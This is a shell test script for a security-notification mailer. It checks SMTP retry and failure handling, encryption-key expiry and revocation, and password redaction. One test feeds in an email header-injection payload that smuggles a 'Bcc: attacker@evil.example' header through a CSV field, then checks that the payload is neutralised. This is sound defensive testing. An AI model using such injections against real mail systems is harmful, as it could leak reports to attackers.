# Delivery under faults and policy: SMTP 4xx then success delivers once;
# 5xx fails that message; a header injection from a feed is harmless;
# missing, expired, revoked and mismatched keys hold the message with a
# clear reason and nothing goes out in clear; a key revoked while a message
# waits holds it at send time; leaked-credential warnings carry no
# password.
setup_keys 1 2 5 7 8 9
G=$RCPT_GNUPGHOME
# Réseau (3): pinned to a key that has expired.
fpr3=$(GNUPGHOME=$G gpg --batch --quiet --faked-system-time 20200101T000000 \
    --pinentry-mode loopback --passphrase '' \
    --quick-gen-key "Expired <cert@reseau-exemple.example>" ed25519 sign,cert 2d 2>/dev/null;
    GNUPGHOME=$G gpg --batch --with-colons --list-keys "Expired" | awk -F: '/^fpr:/ {print $10; exit}')
GNUPGHOME=$G gpg --batch --quiet --faked-system-time 20200101T000000 --pinentry-mode loopback \
    --passphrase '' --quick-add-key "$fpr3" cv25519 encr 2d 2>/dev/null
GNUPGHOME=$G gpg --batch --export "$fpr3" | GNUPGHOME=$T/gnupg gpg --batch --quiet --import 2>/dev/null
# Kundenbetrieb (4): its key, revoked.
GNUPGHOME=$G gpg --batch --export "$FPR_4" | GNUPGHOME=$T/gnupg gpg --batch --quiet --import 2>/dev/null
sed 's/^:-----BEGIN/-----BEGIN/' "$G/openpgp-revocs.d/$FPR_4.rev" |
    GNUPGHOME=$T/gnupg gpg --batch --quiet --import 2>/dev/null
# Hôpital (6): the keyring has a key for its address, but not the pinned one.
GNUPGHOME=$G gpg --batch --quiet --pinentry-mode loopback --passphrase '' \
    --quick-gen-key "Impostor <securite@hopital.example>" ed25519 sign,cert 1y 2>/dev/null
other=$(GNUPGHOME=$G gpg --batch --with-colons --list-keys Impostor | awk -F: '/^fpr:/ {print $10; exit}')
GNUPGHOME=$G gpg --batch --quiet --pinentry-mode loopback --passphrase '' \
    --quick-add-key "$other" cv25519 encr 1y 2>/dev/null
[ "$other" != "$FPR_6" ] || fail "impostor key is the pinned one"
GNUPGHOME=$G gpg --batch --export "$other" | GNUPGHOME=$T/gnupg gpg --batch --quiet --import 2>/dev/null
sed -i "s/\"$FPR_3\"/\"$fpr3\"/" "$T/registry.yaml"
gpgconf --homedir "$T/gnupg" --kill all 2>/dev/null || true

write_config "outbox: {backoff_base: 2s, backoff_max: 2s, lease: 30s, max_attempts: 100}"
$TOCSINCTL db migrate >/dev/null
$TOCSINCTL entity import "$T/registry.yaml" >/dev/null

# The harness's sink is replaced by ours on the same port.
"$SRC/tests/services.sh" smtp-stop "$T"
sink() {
	local user=()
	[ "$(id -u)" -eq 0 ] && user=(-u nobody)
	chmod 777 "$MAILDIR"
	/usr/sbin/smtp-sink "${user[@]}" -d "$MAILDIR/%Y%m%d%H%M%S." "$@" \
	    "127.0.0.1:$SMTP_PORT" 64 >>"$T/sink.log" 2>&1 &
	SINK_PID=$!
	wait_for 10 bash -c "exec 3<>/dev/tcp/127.0.0.1/$SMTP_PORT"
}
sink_stop() { kill "$SINK_PID" 2>/dev/null; wait "$SINK_PID" 2>/dev/null || true; }
trap 'sink_stop' EXIT

echo "== SMTP answers 4xx: deferred, then delivered exactly once"
sink -r RCPT
start_tocsind
drop "$SRC/tests/data/feeds/match/2026-11-23-scan_rdp-be-001.csv"
wait_for 60 sql_is "SELECT count(*) FROM message WHERE state='deferred' AND attempts >= 1" 2
expect_grep '450' <(sql "SELECT last_reply FROM message WHERE state='deferred' LIMIT 1")
expect_eq "no mail yet" "$(mail_count)" 0
sink_stop
sink
wait_for 60 sql_is "SELECT count(*) FROM message WHERE state='sent'" 2
sleep 2
expect_eq "two mails, once each" "$(mail_count)" 2
expect_eq "recipients" "$(grep -h '^X-Rcpt-Args' $(mails) | sort | tr -d '\r' | tr '\n' ' ')" \
    "X-Rcpt-Args: <security@logistics.example> X-Rcpt-Args: <soc@voorbeeld-energie.example> "

echo "== unusable keys: held with the reason, never sent"
held() { sql "SELECT held_reason FROM message WHERE recipient='$1' AND state='held'"; }
expect_grep "key $fpr3 expired on" <(held cert@reseau-exemple.example)
expect_grep "key $FPR_4 is revoked" <(held it-sicherheit@kundenbetrieb.example)
expect_grep "no key with fingerprint $FPR_6" <(held securite@hopital.example)
expect_eq "held rows carry no body" "$(sql "SELECT count(*) FROM message WHERE state='held' AND body IS NOT NULL")" 0
expect_no_grep 'reseau|kundenbetrieb|hopital' <(cat $(mails))

echo "== SMTP answers 5xx: that message fails, nothing is retried"
sink_stop
sink -f RCPT
cat >"$T/2026-11-27-scan_rdp-be-004.csv" <<CSV
"timestamp","severity","ip","protocol","port","hostname","tag","asn","geo"
"2026-11-27 01:02:03","medium","192.0.2.11","tcp",3389,,"rdp",64501,"BE"
CSV
drop "$T/2026-11-27-scan_rdp-be-004.csv"
wait_for 60 sql_is "SELECT count(*) FROM message WHERE state='failed'" 1
expect_grep '^5' <(sql "SELECT last_reply FROM message WHERE state='failed'")
expect_eq "failed after one attempt" "$(sql "SELECT attempts FROM message WHERE state='failed'")" 1
expect_eq "audit" "$(sql "SELECT count(*) FROM audit_log WHERE action='message.failed'")" 1

echo "== a header injection from a feed stays in the encrypted body"
sink_stop
sink
printf '%s\r\n' '"timestamp","severity","ip","protocol","port","hostname","tag","asn","geo"' \
    '"2026-11-28 01:02:03","medium","203.0.113.201","tcp",3389,"x.example' \
    'Bcc: attacker@evil.example' 'Subject: pwned","rdp",64503,"BE"' >"$T/2026-11-28-scan_rdp-be-005.csv"
drop "$T/2026-11-28-scan_rdp-be-005.csv"
wait_for 60 mails_are 3
m=$(mails | tail -1)
expect_no_grep '^Bcc:' "$m"
expect_no_grep 'attacker@evil' "$m"
expect_eq "one envelope recipient" "$(grep -c '^X-Rcpt-Args' "$m")" 1
read_mail "$m" >"$T/inj.json"
expect_eq "signature valid" "$(jq -r .signature_valid "$T/inj.json")" true
expect_eq "outer Bcc" "$(jq -r '.outer.Bcc // "none"' "$T/inj.json")" none
expect_eq "protected subject is one line" "$(jq -r .protected.Subject "$T/inj.json" | wc -l)" 1
expect_grep 'attacker@evil.example' <(jq -r .text "$T/inj.json")

echo "== leaked credentials: the address, never the password"
drop "$SRC/tests/data/feeds/match/leak-creds.txt"
wait_for 60 mails_are 4
read_mail "$(mails | tail -1)" >"$T/cred.json"
expect_grep 'jan@voorbeeld-energie.example' <(jq -r .text "$T/cred.json")
expect_no_grep 'hunter2|s3cr3t' <(jq -r '.text, .html, (.attachments[]?.content)' "$T/cred.json")
expect_no_grep 'hunter2|s3cr3t' <(sql "SELECT detail::text FROM audit_log")
expect_no_grep 'hunter2|s3cr3t' "$T/tocsind.log"

echo "== a key revoked while its message waits: held at send time"
sink_stop
cat >"$T/2026-11-29-scan_rdp-be-006.csv" <<CSV
"timestamp","severity","ip","protocol","port","hostname","tag","asn","geo"
"2026-11-29 01:02:03","medium","203.0.113.202","tcp",3389,,"rdp",64503,"BE"
CSV
drop "$T/2026-11-29-scan_rdp-be-006.csv"
wait_for 60 sql_is "SELECT count(*) FROM message WHERE recipient='security@logistics.example' AND state='deferred'" 1
sed 's/^:-----BEGIN/-----BEGIN/' "$G/openpgp-revocs.d/$FPR_7.rev" |
    GNUPGHOME=$T/gnupg gpg --batch --quiet --import 2>/dev/null
chown -R "$(service_user)": "$T/gnupg" 2>/dev/null || true
sink
wait_for 60 sql_is "SELECT count(*) FROM message WHERE recipient='security@logistics.example' AND state='held'" 1
expect_grep "no longer usable: key $FPR_7 is revoked" \
    <(sql "SELECT held_reason FROM message WHERE recipient='security@logistics.example' AND state='held'")
expect_eq "no new mail" "$(mail_count)" 4

stop_tocsind
expect_no_grep 'result=unclean' "$T/tocsind.log"

echo "== 4xx until outbox.max_attempts: then failed, with every attempt counted"
sed -i 's/max_attempts: 100/max_attempts: 3/' "$T/tocsin.yaml"
sink_stop
sink -r RCPT
start_tocsind
cat >"$T/2026-11-30-scan_rdp-be-008.csv" <<CSV
"timestamp","severity","ip","protocol","port","hostname","tag","asn","geo"
"2026-11-30 01:02:03","medium","192.0.2.12","tcp",3389,,"rdp",64501,"BE"
CSV
drop "$T/2026-11-30-scan_rdp-be-008.csv"
wait_for 60 sql_is "SELECT count(*) FROM message m JOIN audit_log a ON a.reference = m.reference AND a.action = 'message.failed' WHERE m.recipient = 'soc@voorbeeld-energie.example' AND m.attempts = 3" 1
expect_grep '^450' <(sql "SELECT last_reply FROM message WHERE state='failed' AND attempts=3")
expect_eq "deferred twice before" "$(sql "SELECT count(*) FROM audit_log a JOIN message m USING (reference) WHERE m.attempts = 3 AND a.action = 'message.deferred'")" 2
stop_tocsind
